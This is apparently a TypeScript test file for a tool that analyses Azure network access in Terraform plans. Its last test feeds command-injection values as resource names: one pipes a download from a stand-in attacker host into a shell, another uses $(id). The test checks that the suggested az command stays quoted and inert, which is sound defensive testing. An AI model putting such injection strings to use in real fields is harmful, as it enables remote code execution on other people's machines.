import { describe, expect, test } from 'vitest';
import type { Properties, ResourceChange } from '../../src/readers/resource.ts';
import {
  accountProps,
  group,
  later,
  low,
  networkId,
  read,
  resource,
  still,
  storageId,
  subnet,
  subnetId,
  subnetProps,
  vnet,
} from './network-scene.ts';

const account = low(storageId('stdata'));
const app = low(subnetId('app'));
const rules = (more: object = {}) => ({
  default_action: 'Deny',
  bypass: ['AzureServices'],
  ...more,
});

describe('a storage account', () => {
  test('is read whole from its own block', () => {
    const { after } = read(
      vnet,
      subnet('app'),
      still(
        'azurerm_storage_account.data',
        storageId('stdata'),
        accountProps('stdata', {
          is_hns_enabled: true,
          network_rules: [
            rules({
              ip_rules: ['1.2.3.4', '5.6.7.0/24'],
              virtual_network_subnet_ids: [subnetId('app')],
            }),
          ] as never,
        }),
      ),
    );
    expect(after.targets[account]).toMatchObject({
      type: 'Microsoft.Storage/storageAccounts',
      location: 'westeurope',
      publicNetworkAccess: 'Enabled',
      defaultAction: 'Deny',
      networkRules: { [app]: { ignoreMissing: false } },
      ipRules: { '1.2.3.4': { range: '1.2.3.4' }, '5.6.7.0/24': { range: '5.6.7.0/24' } },
      trusted: ['AzureServices'],
    });
    expect(after.targets[account]?.subresources.dfs?.names).toEqual([
      {
        forwarders: ['dfs.core.windows.net'],
        host: 'stdata.dfs.core.windows.net',
        zone: 'privatelink.dfs.core.windows.net',
        record: 'stdata',
      },
    ]);
  });

  test('without the block is open, also where the provider will read the default back', () => {
    const created = resource('azurerm_storage_account.data', {
      idAfter: later() as never,
      after: accountProps('stdata', { network_rules: later() }),
    });
    const target = read(created).after.targets['iac:azurerm_storage_account.data'];
    expect(target).toMatchObject({ defaultAction: 'Allow', trusted: ['AzureServices'] });
    expect([target?.networkRules, target?.ipRules, target?.resourceInstances]).toEqual([
      {},
      {},
      {},
    ]);
  });

  test('whose block is marked sensitive stays a question', () => {
    const hidden = { unknown: 'marked sensitive in the plan' } as never;
    const created = resource('azurerm_storage_account.data', {
      after: accountProps('stdata', { network_rules: hidden }),
    });
    const target = read(created).after.targets['iac:azurerm_storage_account.data'];
    expect(target?.defaultAction).toMatchObject({ unknown: expect.stringContaining('sensitive') });
    expect(target?.networkRules).toMatchObject({
      '*': { unknown: expect.stringContaining('network_rules') },
    });
  });

  describe('and the resource of its rules', () => {
    const readBack = still(
      'azurerm_storage_account.data',
      storageId('stdata'),
      accountProps('stdata', {
        network_rules: [rules({ virtual_network_subnet_ids: [subnetId('app')] })] as never,
      }),
    );
    const separate = (more: object) =>
      resource('azurerm_storage_account_network_rules.data', {
        id: storageId('stdata'),
        dependsOn: ['azurerm_storage_account.data'],
        ...more,
      });
    const held = {
      storage_account_id: storageId('stdata'),
      ...rules({ virtual_network_subnet_ids: [subnetId('app')] }),
    } as never;

    test('give one edit, sent by the resource of the rules', () => {
      const emptied = { storage_account_id: storageId('stdata'), ...rules() } as never;
      const { after, writes } = read(
        vnet,
        subnet('app'),
        readBack,
        separate({ before: held, after: emptied }),
      );
      expect(after.targets[account]?.networkRules).toEqual({});
      expect(writes).toMatchObject([
        { id: 'azurerm_storage_account_network_rules.data', action: 'update' },
      ]);
      expect(writes[0]?.provides).toContain(`targets|${account}|networkRules`);
    });

    test('open the account when the latter is destroyed', () => {
      const { before, after, writes } = read(
        vnet,
        subnet('app'),
        readBack,
        separate({ before: held }),
      );
      expect(before.targets[account]?.defaultAction).toBe('Deny');
      expect(after.targets[account]).toMatchObject({ defaultAction: 'Allow', networkRules: {} });
      expect(writes).toMatchObject([
        { id: 'azurerm_storage_account_network_rules.data#delete', action: 'delete' },
      ]);
    });

    test('keep the account closed when the change moves them inline', () => {
      const inline = resource('azurerm_storage_account.data', {
        id: storageId('stdata'),
        before: accountProps('stdata', { network_rules: [rules()] as never }),
        after: accountProps('stdata', {
          network_rules: [rules({ ip_rules: ['1.2.3.4'] })] as never,
        }),
      });
      const { after, writes } = read(inline, separate({ before: held }));
      expect(after.targets[account]).toMatchObject({
        defaultAction: 'Deny',
        ipRules: { '1.2.3.4': {} },
      });
      expect(writes.find(({ id }) => id === 'azurerm_storage_account.data')?.after).toEqual([
        'azurerm_storage_account_network_rules.data#delete',
      ]);
    });
  });

  test('names subnets of the same plan whose IDs are not known yet', () => {
    const fresh = (name: string) =>
      resource(`azurerm_subnet.${name}`, { after: subnetProps(name), idAfter: later() as never });
    const { after } = read(
      vnet,
      subnet('app'),
      fresh('new'),
      resource('azurerm_storage_account_network_rules.data', {
        after: {
          storage_account_id: storageId('stdata'),
          ...rules({
            virtual_network_subnet_ids: [
              subnetId('app'),
              later('azurerm_subnet.app.id', 'azurerm_subnet.new.id'),
            ],
          }),
        } as never,
      }),
    );
    expect(Object.keys(after.targets[account]?.networkRules ?? {})).toEqual([
      app,
      'iac:azurerm_subnet.new',
    ]);
  });

  test('keeps a list open that nothing tells and that the provider never reads back', () => {
    const { after } = read(
      resource('azurerm_storage_account_network_rules.data', {
        after: {
          storage_account_id: storageId('stdata'),
          default_action: 'Deny',
          bypass: later(),
          virtual_network_subnet_ids: later(),
        },
      }),
    );
    expect(after.targets[account]).toMatchObject({
      trusted: ['AzureServices'],
      networkRules: { '*': { unknown: expect.stringContaining('virtual_network_subnet_ids') } },
    });
  });

  test('keeps an entry whose subnet nothing tells', () => {
    const { after } = read(
      resource('azurerm_storage_account_network_rules.data', {
        after: {
          storage_account_id: storageId('stdata'),
          ...rules({ virtual_network_subnet_ids: [later('local.subnet')] }),
        } as never,
      }),
    );
    const [key] = Object.keys(after.targets[account]?.networkRules ?? {});
    expect(key?.startsWith('?')).toBe(true);
  });
});

describe('a SQL server', () => {
  const id = `${group}/providers/Microsoft.Sql/servers/sql`;
  const server = still('azurerm_mssql_server.sql', id, {
    name: 'sql',
    resource_group_name: 'rg',
    location: 'westeurope',
    public_network_access_enabled: true,
  });
  const rule = (range: readonly [string, string]) => ({
    server_id: id,
    start_ip_address: range[0],
    end_ip_address: range[1],
  });

  test('has its rules as resources, each a write of its own', () => {
    const { after, writes } = read(
      vnet,
      subnet('app'),
      server,
      still(
        'azurerm_mssql_firewall_rule.nat',
        `${id}/firewallRules/nat`,
        rule(['1.2.3.4', '1.2.3.4']),
      ),
      still(
        'azurerm_mssql_firewall_rule.azure',
        `${id}/firewallRules/azure`,
        rule(['0.0.0.0', '0.0.0.0']),
      ),
      still(
        'azurerm_mssql_firewall_rule.wide',
        `${id}/firewallRules/wide`,
        rule(['1.2.3.4', '1.2.3.9']),
      ),
      resource('azurerm_mssql_virtual_network_rule.app', {
        after: {
          server_id: id,
          subnet_id: subnetId('app'),
          ignore_missing_vnet_service_endpoint: true,
        },
      }),
    );
    expect(after.targets[low(id)]).toMatchObject({
      networkRules: { [app]: { ignoreMissing: true } },
      ipRules: {
        '1.2.3.4': { range: '1.2.3.4' },
        '0.0.0.0': { range: '0.0.0.0' },
        '1.2.3.4-1.2.3.9': { range: '1.2.3.4-1.2.3.9' },
      },
    });
    expect(writes).toMatchObject([
      {
        id: 'azurerm_mssql_virtual_network_rule.app',
        provides: [`targets|${low(id)}|networkRules|${app}`],
      },
    ]);
  });

  test('is found by name in older providers', () => {
    const { after } = read(
      still('azurerm_sql_server.sql', id, {
        name: 'sql',
        resource_group_name: 'rg',
        location: 'westeurope',
      }),
      resource('azurerm_sql_virtual_network_rule.app', {
        after: { server_name: 'SQL', resource_group_name: 'RG', subnet_id: subnetId('app') },
      }),
    );
    expect(Object.keys(after.targets[low(id)]?.networkRules ?? {})).toEqual([app]);
    expect(after.targets[low(id)]?.publicNetworkAccess).toBe('unset');
  });

  test('that only a rule names is there, with all else unknown', () => {
    const { before, after } = read(
      resource('azurerm_mssql_virtual_network_rule.app', {
        after: { server_id: id, subnet_id: subnetId('app') },
      }),
    );
    expect(after.targets[low(id)]).toMatchObject({
      noun: 'SQL server',
      publicNetworkAccess: { unknown: 'sql is not in the input' },
      networkRules: {
        '*': { unknown: 'sql is not in the input' },
        [app]: { ignoreMissing: false },
      },
    });
    expect(before.subnets[app]).toMatchObject({
      natGateway: { unknown: 'app is not in the input' },
    });
  });
});

test('an address that is not known yet keeps the identity of its public IP', () => {
  const { after } = read(
    resource('azurerm_public_ip.nat', {
      after: { name: 'pip', ip_address: later() },
      idAfter: later() as never,
    }),
    still('azurerm_nat_gateway.ng', networkId('natGateways/ng'), { name: 'ng' }),
    resource('azurerm_nat_gateway_public_ip_association.ng', {
      after: {
        nat_gateway_id: networkId('natGateways/ng'),
        public_ip_address_id: later('azurerm_public_ip.nat.id'),
      },
    }),
    resource('azurerm_storage_account_network_rules.data', {
      after: {
        storage_account_id: storageId('stdata'),
        ...rules({ ip_rules: [later('azurerm_public_ip.nat.ip_address')] }),
      } as never,
    }),
  );
  const key = '?iac:azurerm_public_ip.nat';
  expect(Object.keys(after.targets[account]?.ipRules ?? {})).toEqual([key]);
  expect(Object.keys(after.natGateways[low(networkId('natGateways/ng'))]?.addresses ?? {})).toEqual(
    [key],
  );
});

describe('Cosmos DB', () => {
  const id = `${group}/providers/Microsoft.DocumentDB/databaseAccounts/cosmos`;
  const cosmos = (more: object) =>
    still('azurerm_cosmosdb_account.c', id, {
      name: 'cosmos',
      location: 'westeurope',
      geo_location: [{ location: 'West Europe' }, { location: 'northeurope' }],
      ...more,
    });

  test('has its IP rules as one string up to azurerm 3, as a set from 4', () => {
    const ranges = (more: object) =>
      Object.keys(read(cosmos(more)).after.targets[low(id)]?.ipRules ?? {});
    expect(ranges({ ip_range_filter: '1.2.3.4,5.6.7.0/24' })).toEqual(['1.2.3.4', '5.6.7.0/24']);
    expect(ranges({ ip_range_filter: ['1.2.3.4', '5.6.7.0/24'] })).toEqual([
      '1.2.3.4',
      '5.6.7.0/24',
    ]);
  });

  test('has a name for the account and one for each region', () => {
    const { after } = read(cosmos({ is_virtual_network_filter_enabled: true }));
    const target = after.targets[low(id)];
    expect(target?.networkRulesEnabled).toBe(true);
    expect(target?.subresources.Sql?.names.map(({ host }) => host)).toEqual([
      'cosmos.documents.azure.com',
      'cosmos-northeurope.documents.azure.com',
      'cosmos-westeurope.documents.azure.com',
    ]);
  });
});

describe('an app', () => {
  const id = `${group}/providers/Microsoft.Web/sites/app`;
  const site = (config: object, more: object = {}) =>
    still('azurerm_linux_web_app.app', id, {
      name: 'app',
      location: 'westeurope',
      site_config: [config] as never,
      ...more,
    });

  test('has two doors on one resource, with rules of their own', () => {
    const { after } = read(
      site({
        ip_restriction_default_action: 'Deny',
        ip_restriction: [
          {
            virtual_network_subnet_id: subnetId('app'),
            action: 'Allow',
            priority: 100,
            ip_address: '',
          },
          { service_tag: 'AzureFrontDoor.Backend', action: 'Allow', priority: 200 },
        ],
        scm_ip_restriction_default_action: 'Allow',
        scm_use_main_ip_restriction: false,
      }),
    );
    expect(after.targets[low(id)]).toMatchObject({
      resource: low(id),
      defaultAction: 'Deny',
      networkRules: { [app]: { action: 'Allow', priority: 100 } },
      ipRules: { 'AzureFrontDoor.Backend': { priority: 200 } },
    });
    expect(after.targets[`${low(id)}#scm`]).toMatchObject({
      name: 'app (SCM)',
      resource: low(id),
      defaultAction: 'Allow',
      networkRules: {},
    });
  });

  test('does not say what a rule does whose action is hidden', () => {
    const { after } = read(
      site({
        ip_restriction: [
          { virtual_network_subnet_id: subnetId('app'), action: later('var.action'), priority: 1 },
          { ip_address: '1.2.3.4/32', action: 'Deny', priority: later('var.priority') },
        ],
      }),
    );
    expect(after.targets[low(id)]).toMatchObject({
      traits: { rulesMayDeny: true },
      networkRules: { [app]: { unknown: expect.stringContaining('action') } },
      ipRules: { '1.2.3.4': { unknown: expect.stringContaining('priority') } },
    });
  });

  test('lets the SCM door take the rules of the first', () => {
    const { after } = read(
      site({
        ip_restriction_default_action: 'Deny',
        ip_restriction: [{ ip_address: '1.2.3.4/32', action: 'Allow', priority: 1 }],
        scm_use_main_ip_restriction: true,
      }),
    );
    expect(after.targets[`${low(id)}#scm`]).toMatchObject({
      defaultAction: 'Deny',
      ipRules: { '1.2.3.4': { action: 'Allow' } },
    });
  });

  test('does not say whose rules the SCM door has where that is hidden', () => {
    const { after } = read(
      site({
        ip_restriction_default_action: 'Deny',
        ip_restriction: [{ ip_address: '1.2.3.4/32', action: 'Allow', priority: 1 }],
        scm_ip_restriction_default_action: 'Allow',
        scm_use_main_ip_restriction: later('var.share'),
      }),
    );
    const hidden = { unknown: expect.stringContaining('scm_use_main_ip_restriction') };
    expect(after.targets[`${low(id)}#scm`]).toMatchObject({
      defaultAction: hidden,
      ipRules: { '*': hidden },
      networkRules: { '*': hidden },
    });
    expect(after.targets[low(id)]).toMatchObject({ defaultAction: 'Deny' });
  });

  test('names in its settings what it calls, and nothing else of them is kept', () => {
    const result = read(
      vnet,
      subnet('app'),
      still('azurerm_storage_account.data', storageId('stdata'), accountProps('stdata')),
      still('azurerm_key_vault.kv', `${group}/providers/Microsoft.KeyVault/vaults/kv`, {
        name: 'kv',
      }),
      site(
        { vnet_route_all_enabled: true },
        {
          virtual_network_subnet_id: subnetId('app'),
          app_settings: {
            DATA: 'https://stdata.blob.core.windows.net/in?sig=hush',
            SECRET: '@Microsoft.KeyVault(VaultName=kv;SecretName=hush)',
            OTHER: 'https://elsewhere.blob.core.windows.net',
          },
        },
      ),
    );
    const { after } = result;
    expect(after.workloads[low(id)]).toMatchObject({ subnet: app, routesAll: true });
    expect(
      Object.values(after.uses).map(({ client, target, subresource }) => ({
        client,
        target,
        subresource,
      })),
    ).toEqual([
      { client: low(id), target: account, subresource: 'blob' },
      {
        client: low(id),
        target: low(`${group}/providers/Microsoft.KeyVault/vaults/kv`),
        subresource: 'vault',
      },
    ]);
    expect(JSON.stringify(result)).not.toContain('hush');
  });

  test('calls by the privatelink name are told apart from calls by the public one', () => {
    const { after } = read(
      vnet,
      subnet('app'),
      still('azurerm_storage_account.data', storageId('stdata'), accountProps('stdata')),
      site(
        {},
        {
          virtual_network_subnet_id: subnetId('app'),
          app_settings: {
            ONE: 'https://stdata.privatelink.blob.core.windows.net/',
            OTHER: 'https://stdata.queue.core.windows.net/',
          },
        },
      ),
    );
    expect(
      Object.values(after.uses).map(({ subresource, privateName }) => [subresource, privateName]),
    ).toEqual([
      ['blob', 'stdata.privatelink.blob.core.windows.net'],
      ['queue', undefined],
    ]);
  });

  test('a function app says whether it mounts its content over the network', () => {
    const id = `${group}/providers/Microsoft.Web/sites/fn`;
    const app = (settings: Properties) =>
      read(
        vnet,
        subnet('app'),
        still('azurerm_windows_function_app.fn', id, {
          name: 'fn',
          location: 'westeurope',
          virtual_network_subnet_id: subnetId('app'),
          app_settings: settings,
        }),
      ).after.workloads[low(id)]?.contentOverVnet;
    expect(app({ WEBSITE_CONTENTOVERVNET: '1' })).toBe(true);
    expect(app({ WEBSITE_CONTENTOVERVNET: '0' })).toBe(false);
    expect(app({ OTHER: '1' })).toBeUndefined();
  });

  test('a package that the provider deploys makes the pipeline a client of the SCM site', () => {
    const { after } = read(site({}, { zip_deploy_file: 'app.zip' }));
    expect(Object.values(after.uses)).toEqual([
      expect.objectContaining({ client: 'pipeline', target: `${low(id)}#scm` }),
    ]);
    expect(Object.values(read(site({}, { zip_deploy_file: null })).after.uses)).toEqual([]);
  });
});

describe('services of Azure that call on somebody’s behalf', () => {
  const data = still('azurerm_storage_account.data', storageId('stdata'), accountProps('stdata'));
  const vaultId = `${group}/providers/Microsoft.KeyVault/vaults/kv`;
  const callsOf = (...changes: readonly ResourceChange[]) =>
    Object.values(read(data, ...changes).after.uses).map(({ client, target, subresource }) => [
      client,
      target,
      subresource,
    ]);

  test('diagnostics name their account by its ID', () => {
    const setting = still('azurerm_monitor_diagnostic_setting.logs', 'x', {
      name: 'logs',
      storage_account_id: storageId('stdata'),
    });
    expect(callsOf(setting)).toEqual([['trusted-service', account, 'blob']]);
  });

  test('audits name theirs by its host', () => {
    const policy = still('azurerm_mssql_server_extended_auditing_policy.audit', 'x', {
      storage_endpoint: 'https://stdata.blob.core.windows.net/',
    });
    expect(callsOf(policy)).toEqual([['trusted-service', account, 'blob']]);
  });

  test('a key of the customer is fetched from its vault', () => {
    const vault = still('azurerm_key_vault.kv', vaultId, { name: 'kv' });
    const disks = still('azurerm_disk_encryption_set.disks', 'x', {
      key_vault_key_id: 'https://kv.vault.azure.net/keys/disks/1',
    });
    expect(callsOf(vault, disks)).toEqual([['trusted-service', low(vaultId), 'vault']]);
  });

  test('diagnostics that go elsewhere call nobody here', () => {
    const setting = still('azurerm_monitor_diagnostic_setting.logs', 'x', {
      name: 'logs',
      log_analytics_workspace_id: 'y',
    });
    expect(callsOf(setting)).toEqual([]);
  });
});

describe('data-plane resources', () => {
  const data = still('azurerm_storage_account.data', storageId('stdata'), accountProps('stdata'));

  test('make the pipeline a client', () => {
    const { after } = read(
      data,
      still('azurerm_storage_container.in', 'https://stdata.blob.core.windows.net/in', {
        name: 'in',
        storage_account_name: 'stdata',
      }),
    );
    expect(Object.values(after.uses)).toMatchObject([
      { client: 'pipeline', target: account, subresource: 'blob', evidence: 'declared' },
    ]);
  });

  test('do not where the provider uses the control plane', () => {
    const { after } = read(
      data,
      still(
        'azurerm_storage_container.in',
        `${storageId('stdata')}/blobServices/default/containers/in`,
        {
          name: 'in',
          storage_account_id: storageId('stdata'),
        },
      ),
    );
    expect(after.uses).toEqual({});
  });
});

test('a patch leaves open what it does not show, and says how to see it', () => {
  const vault = `${group}/providers/Microsoft.KeyVault/vaults/kv`;
  const { before, after, gaps } = read(
    resource('azapi_update_resource.kv', {
      type: 'Microsoft.KeyVault/vaults',
      dialect: 'arm',
      whole: false,
      action: 'update',
      id: vault,
      before: { properties: { networkAcls: { defaultAction: 'Allow' } } },
      after: { properties: { networkAcls: { defaultAction: 'Deny' } } },
    }),
  );
  expect(before.targets[low(vault)]?.defaultAction).toBe('Allow');
  expect(after.targets[low(vault)]).toMatchObject({
    defaultAction: 'Deny',
    publicNetworkAccess: { unknown: 'azapi_update_resource.kv shows only a part of kv' },
    networkRules: { '*': { unknown: 'azapi_update_resource.kv shows only a part of kv' } },
  });
  expect(gaps).toMatchObject([
    { affects: [vault], howToFind: `az resource show --ids ${vault} --query properties` },
  ]);
});

test.each([
  ["kv'; curl evil.example | sh; '", "az resource show --ids '/subscriptions/"],
  ['kv $(id)', "az resource show --ids '/subscriptions/"],
  ['kv\u202e', 'Read the resource in Azure.'],
])('a command to look at %j runs nothing else', (name, begins) => {
  const vault = `${group}/providers/Microsoft.KeyVault/vaults/${name}`;
  const patch = { properties: { networkAcls: { defaultAction: 'Allow' } } };
  const { gaps } = read(
    resource('azapi_update_resource.kv', {
      type: 'Microsoft.KeyVault/vaults',
      dialect: 'arm',
      whole: false,
      action: 'update',
      id: vault,
      before: patch,
      after: patch,
    }),
  );
  const [gap] = gaps;
  expect(gap?.howToFind.startsWith(begins)).toBe(true);
  // Outside of single quotes no shell finds anything to expand.
  const outside = gap?.howToFind.replace(/'[^']*'|\\'/g, '') ?? '';
  expect(outside).not.toMatch(/[;|$`&<>]/);
});
